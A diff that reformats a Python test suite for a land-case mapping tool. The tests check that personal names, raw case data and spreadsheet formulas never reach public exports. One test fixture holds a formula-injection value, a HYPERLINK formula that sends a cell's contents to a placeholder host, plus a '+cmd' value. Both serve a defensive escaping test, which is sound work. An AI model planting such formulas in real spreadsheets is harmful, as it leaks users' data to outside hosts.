@@ -30,9 +30,20 @@ LANDMAP = [sys.executable, "-m", "landmap.cli"]
 METRIC = "EPSG:32648"
 
 #: Headers a register may use for people, none of which the old name patterns recognised.
-HOSTILE_HEADERS = ["household_head", "land_owner", "owner", "spouse", "witness_1", "reported_by",
-                   "village_chief", "perpetrator", "lawyer", "nom", "ម្ចាស់ដី",
-                   "អ្នកផ្តល់ព័ត៌មាន"]
+HOSTILE_HEADERS = [
+    "household_head",
+    "land_owner",
+    "owner",
+    "spouse",
+    "witness_1",
+    "reported_by",
+    "village_chief",
+    "perpetrator",
+    "lawyer",
+    "nom",
+    "ម្ចាស់ដី",
+    "អ្នកផ្តល់ព័ត៌មាន",
+]
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
 
 
@@ -55,8 +66,7 @@ def register(tmp_path_factory) -> Path:
 
 
 def _cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
-    return subprocess.run([*LANDMAP, *args], capture_output=True, text=True, check=False,
-                          cwd=cwd)
+    return subprocess.run([*LANDMAP, *args], capture_output=True, text=True, check=False, cwd=cwd)
 
 
 @pytest.fixture(scope="module")
@@ -80,7 +90,8 @@ def test_names_under_unknown_headers_never_reach_public_files(exported):
     geojson = gpd.read_file(exported / "landmap.geojson")
     assert not set(HOSTILE_HEADERS) & set(geojson.columns)
     assert set(geojson.columns) - {"geometry"} <= set(PUBLIC.public_columns("cases")) | {
-        "published_location"}
+        "published_location"
+    }
     book = load_workbook(exported / "landmap.xlsx")
     headers = {cell.value for cell in next(book["register"].iter_rows(max_row=1))}
     assert not headers & set(HOSTILE_HEADERS)
@@ -101,8 +112,10 @@ def test_a_published_location_column_does_not_switch_masking_off(register, expor
 def test_formulas_are_text_in_public_and_internal_spreadsheets(register, exported, tmp_path):
     """Finding 9: values starting with = + - @ were written raw into CSV and XLSX."""
     csv = pd.read_csv(exported / "landmap-register.csv", dtype=str, encoding="utf-8-sig")
-    assert csv.loc[csv["village"].str.contains("HYPERLINK", na=False), "village"].iloc[0] == \
-        "'" + FORMULA
+    assert (
+        csv.loc[csv["village"].str.contains("HYPERLINK", na=False), "village"].iloc[0]
+        == "'" + FORMULA
+    )
     assert csv["status"].str.startswith("'+cmd").any()
     book = load_workbook(exported / "landmap.xlsx")
     cells = [c.value for row in book["register"].iter_rows() for c in row]
@@ -110,8 +123,10 @@ def test_formulas_are_text_in_public_and_internal_spreadsheets(register, exporte
     report = tmp_path / "report.csv"  # an internal product: the load report
     run = _cli("check", str(register), "--as", "cases", "--report", str(report))
     assert run.returncode in (0, 1), run.stderr
-    assert not any(line.split(",", 1)[0].startswith(("=", "+", "-", "@"))
-                   for line in report.read_text("utf-8-sig").splitlines())
+    assert not any(
+        line.split(",", 1)[0].startswith(("=", "+", "-", "@"))
+        for line in report.read_text("utf-8-sig").splitlines()
+    )
 
 
 def test_public_provenance_names_inputs_by_file_name_only(register, exported):
@@ -135,8 +150,9 @@ def test_explorer_public_export_writes_only_the_public_audit(register, tmp_path)
     explorer = Explorer(cases, profile="public")
     written = explorer.export(tmp_path / "share")
     assert set(written) == {"map", "table", "audit"}
-    assert all(p.is_absolute() and p.parent == (tmp_path / "share").resolve()
-               for p in written.values())
+    assert all(
+        p.is_absolute() and p.parent == (tmp_path / "share").resolve() for p in written.values()
+    )
     audit = json.loads(written["audit"].read_text("utf-8"))
     assert "detail" not in audit and "consistency_cases" not in json.dumps(audit)
     blob = _all_bytes(tmp_path / "share")
@@ -157,8 +173,9 @@ def test_every_public_writer_refuses_raw_cases(register, tmp_path):
         lambda: build_map(cases=disguised),
         lambda: write_data(tmp_path / "x.geojson", {"cases": disguised}),
         lambda: briefing_map(tmp_path / "x.png", cases=disguised, paper=Paper(dpi=20)),
-        lambda: export_layers(tmp_path / "set", {"cases": ("cases", disguised)},
-                              formats=["geojson"]),
+        lambda: export_layers(
+            tmp_path / "set", {"cases": ("cases", disguised)}, formats=["geojson"]
+        ),
     ]
     for attempt in attempts:
         with pytest.raises(PrivacyError, match="raw case data"):
@@ -170,8 +187,17 @@ def test_a_published_layer_is_made_only_by_the_gate_and_cannot_change(register):
     cases = load_cases(register).data
     published = publish(cases, kind="cases", seed=1)
     with pytest.raises(PrivacyError, match="made only by landmap.privacy.publish"):
-        PublishedLayer(object(), data=cases, kind="cases", name=None, profile=PUBLIC, audit={},
-                       detail={}, omitted=[], source=None)
+        PublishedLayer(
+            object(),
+            data=cases,
+            kind="cases",
+            name=None,
+            profile=PUBLIC,
+            audit={},
+            detail={},
+            omitted=[],
+            source=None,
+        )
     with pytest.raises(AttributeError):
         published.kind = "areas"
     copy = published.data
@@ -188,8 +214,9 @@ def test_merged_layers_keep_one_draw_and_refuse_mixed_profiles(register):
     b = publish(cases.iloc[20:], kind="cases", name="b", seed=2)
     both = merge([a, b], name="all")
     assert len(both) == len(a) + len(b)
-    assert shapely.equals(np.asarray(both.data.geometry.array[: len(a)]),
-                          np.asarray(a.data.geometry.array)).all()
+    assert shapely.equals(
+        np.asarray(both.data.geometry.array[: len(a)]), np.asarray(a.data.geometry.array)
+    ).all()
     with pytest.raises(PrivacyError, match="one profile"):
         merge([a, publish(cases.iloc[:5], "internal", kind="cases")])
 
@@ -205,8 +232,7 @@ def test_kept_column_that_looks_personal_is_published_with_a_warning(register):
 @pytest.mark.slow
 def test_popup_column_removed_by_the_profile_says_so(register, tmp_path):
     """A popup column the public profile removed is named as such, with the way out."""
-    run = _cli("map", f"{register}:cases", "-o", str(tmp_path / "m.html"), "--popup",
-               "description")
+    run = _cli("map", f"{register}:cases", "-o", str(tmp_path / "m.html"), "--popup", "description")
     assert run.returncode == 2 and "Traceback" not in run.stderr
     assert "removed by the 'public' privacy profile" in run.stderr
     assert "--profile internal" in run.stderr
@@ -215,7 +241,8 @@ def test_popup_column_removed_by_the_profile_says_so(register, tmp_path):
 
 def _keyed_project(folder: Path, register: Path, key_line: str) -> Path:
     project = folder / "keyed.toml"
-    project.write_text(f"""
+    project.write_text(
+        f"""
 [project]
 name = "keyed"
 output = "out"
@@ -229,7 +256,9 @@ path = "{register.as_posix()}"
 profile = "public"
 seed_policy = "keyed"
 {key_line}
-""", "utf-8")
+""",
+        "utf-8",
+    )
     return project
 
 
